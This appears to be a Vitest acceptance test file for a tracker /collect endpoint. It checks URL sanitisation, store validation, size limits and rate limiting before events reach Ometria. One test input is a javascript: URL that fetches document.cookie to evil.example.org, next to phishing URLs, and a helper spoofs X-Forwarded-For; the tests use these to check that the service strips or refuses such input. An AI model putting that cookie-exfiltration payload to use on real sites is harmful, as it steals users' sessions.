// Issue 15.2 and 15.8 acceptance over real HTTP: what /collect lets through to Ometria, and its abuse budgets.
import { randomUUID } from 'node:crypto';
import { afterEach, describe, expect, it } from 'vitest';
import { startStack, type Stack } from '../helpers/stack.js';
import { waitFor } from '../helpers/wait-for.js';
import { batchOf, postCollect, SHOP_ORIGIN, trackerEvent } from './tracker-batch.js';

let stack: Stack | undefined;
afterEach(async () => {
  await stack?.close();
  stack = undefined;
});
// unsigned identify keeps these tests about content; signed-identity.test.ts covers identity
const start = async (env: Record<string, string> = {}, service = {}) =>
  (stack = await startStack({ env: { TRACKER_ALLOWED_ORIGINS: SHOP_ORIGIN, TRACKER_ACCEPT_UNSIGNED_IDENTITY: 'true', ...env }, service }));
const identify = () => trackerEvent('identify', { email: 'ann@example.com' });

describe('safe content', () => {
  it('never sends Ometria a URL with javascript: or on a foreign host, and keeps the allowed ones', async () => {
    const s = await start({ TRACKER_ALLOWED_URL_HOSTS: '*.cdn.example.net' });
    const basket = trackerEvent(
      'basket',
      {
        id: 'sel-1',
        currency: 'GBP',
        total: 98,
        url: 'javascript:fetch("https://evil.example.org/"+document.cookie)',
        lines: [
          { sku: 'P10001BLKM', quantity: 1, unitPrice: 49, url: 'https://evil.example.org/phish', imageUrl: 'https://img.cdn.example.net/p1.jpg' },
          { sku: 'P10002BLKM', quantity: 1, unitPrice: 49, url: `${SHOP_ORIGIN}/p/2`, imageUrl: 'http://img.cdn.example.net/p2.jpg' },
        ],
      },
      { url: 'https://evil.example.org/fake-page' },
    );
    const foreignBasket = trackerEvent('basket', { id: 'sel-2', currency: 'GBP', total: 1, url: 'https://evil.example.org/basket?restore=1', lines: [] });
    expect((await postCollect(s.service.url, batchOf([identify(), basket, foreignBasket]))).body).toMatchObject({ accepted: 3, rejected: [] });
    await waitFor(() => s.ometria.store.all('custom_event').length === 2, 'both baskets in Ometria');
    const sent = JSON.stringify(s.ometria.store.all('custom_event'));
    expect(sent).not.toMatch(/javascript:|evil\.example\.org|http:\/\/img/);
    expect(s.ometria.store.get('custom_event', basket.id)).toMatchObject({
      properties: {
        lines: [
          { variant_id: 'P10001BLKM', image_url: 'https://img.cdn.example.net/p1.jpg' },
          { variant_id: 'P10002BLKM', url: `${SHOP_ORIGIN}/p/2` },
        ],
      },
    });
    const props = (s.ometria.store.get('custom_event', basket.id) as { properties: Record<string, unknown> }).properties;
    expect(props).not.toHaveProperty('basket_url');
    expect(props).not.toHaveProperty('url');
  });

  it('refuses a batch for a store that is not configured with 400, storing nothing', async () => {
    const s = await start();
    const reply = await postCollect(s.service.url, { ...batchOf([identify(), trackerEvent('checkout', {})]), store: 'attacker.example/uk' });
    expect(reply.status).toBe(400);
    expect(reply.body.error).toMatch(/not a configured Ometria store/);
    expect(Object.values(await s.service.store.trackerEvents.counts()).reduce((a, b) => a + b, 0)).toBe(0);
  });

  it('clamps an event time from last year to 24 hours ago', async () => {
    const s = await start();
    const old = trackerEvent('checkout', {}, { at: '2023-01-01T00:00:00.000Z' });
    const before = Date.now();
    await postCollect(s.service.url, batchOf([identify(), old]));
    const sent = await waitFor(() => s.ometria.store.get('custom_event', old.id) as { timestamp: string } | undefined, 'the old event');
    const at = Date.parse(sent!.timestamp);
    expect(at).toBeGreaterThanOrEqual(before - 24 * 3_600_000 - 1000);
    expect(at).toBeLessThanOrEqual(Date.now() - 24 * 3_600_000 + 1000);
  });

  it('answers 413 for a 55 KB event that could only be dead-lettered: nothing stored, no dead letter, no alert', async () => {
    const s = await start();
    // long SKUs: each becomes product_id, variant_id and an entry of product_ids in the record
    const lines = Array.from({ length: 100 }, (_, i) => ({ sku: `P${10_000 + i}`.padEnd(200, 'X'), quantity: 1, unitPrice: 10, name: 'n'.repeat(300) }));
    const big = trackerEvent('basket', { id: 'sel-big', currency: 'GBP', total: 1000, url: `${SHOP_ORIGIN}/basket`, lines });
    const body = JSON.stringify(batchOf([identify(), big]));
    expect(body.length).toBeGreaterThan(55_000);
    expect(body.length).toBeLessThan(65_536);
    const reply = await postCollect(s.service.url, body);
    expect(reply.status).toBe(413);
    expect(reply.body.error).toMatch(/event 1 \(basket\).*60 KB/);
    await new Promise((r) => setTimeout(r, 1000));
    expect(await s.service.store.deadLetters.countOpen()).toBe(0);
    expect(await s.service.store.alerts.listOpen()).toEqual([]);
    expect(Object.values(await s.service.store.trackerEvents.counts()).reduce((a, b) => a + b, 0)).toBe(0);
    expect(s.ometria.store.all('custom_event')).toEqual([]);
  });
});

describe('abuse budgets', () => {
  const burst = async (s: Stack, n: number) => {
    const statuses: number[] = [];
    for (let i = 0; i < n; i++) {
      const res = await fetch(`${s.service.url}/collect`, {
        method: 'POST',
        headers: { 'content-type': 'text/plain', origin: SHOP_ORIGIN, 'x-forwarded-for': `198.51.100.${i + 1}` },
        body: JSON.stringify(batchOf([trackerEvent('checkout', {})])),
      });
      statuses.push(res.status);
    }
    return statuses;
  };

  it('ignores X-Forwarded-For by default: a client cannot dodge the rate limit by inventing addresses', async () => {
    const s = await start({ COLLECT_RATE_PER_MINUTE: '2' });
    expect(await burst(s, 3)).toEqual([200, 200, 429]);
    const status = (await (await fetch(`${s.service.url}/status.json`, { headers: s.admin })).json()) as { collect: { refused: Record<string, number> } };
    expect(status.collect.refused.rate).toBe(1);
  });

  it('counts X-Forwarded-For when TRUST_PROXY trusts the proxy it came through', async () => {
    const s = await start({ COLLECT_RATE_PER_MINUTE: '2', TRUST_PROXY: 'loopback' });
    expect(await burst(s, 3)).toEqual([200, 200, 200]);
  });

  it('answers 503 on /collect when free disk is below MIN_FREE_DISK_MB, while webhooks are still accepted', async () => {
    let free = 100 * 1024 * 1024;
    const s = await start({ MIN_FREE_DISK_MB: '512' }, { freeDiskBytes: async () => free });
    const reply = await postCollect(s.service.url, batchOf([trackerEvent('checkout', {})], randomUUID()));
    expect(reply.status).toBe(503);
    expect(reply.body.error).toMatch(/MIN_FREE_DISK_MB/);
    expect(Number(reply.headers.get('retry-after'))).toBeGreaterThan(0);
    const webhook = await s.send([{ type: 'order', id: 1 }]);
    expect(webhook.status).toBe(200);
    free = 10 * 1024 * 1024 * 1024;
  });
});
